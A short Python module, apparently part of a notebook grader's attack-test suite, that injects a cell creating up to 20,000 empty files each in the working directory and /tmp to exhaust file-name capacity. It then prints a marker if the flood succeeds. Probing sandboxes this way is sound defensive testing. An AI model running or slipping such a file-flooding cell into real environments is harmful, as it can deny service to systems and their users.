"""Makes more files than a disk has room to name."""

from grader.attacks import LOOT, insert

STOCK = "got at 40000 files"


def cell(LOOT):
    import os

    made = 0
    for place in (".", "/tmp"):
        try:
            for part in range(20_000):
                os.close(os.open(f"{place}/{part}", os.O_CREAT))
                made += 1
        except OSError:
            pass
    if made > 10_000:
        print(LOOT, made, "files")


def attack(nb, folder):
    insert(nb, cell, LOOT=LOOT)
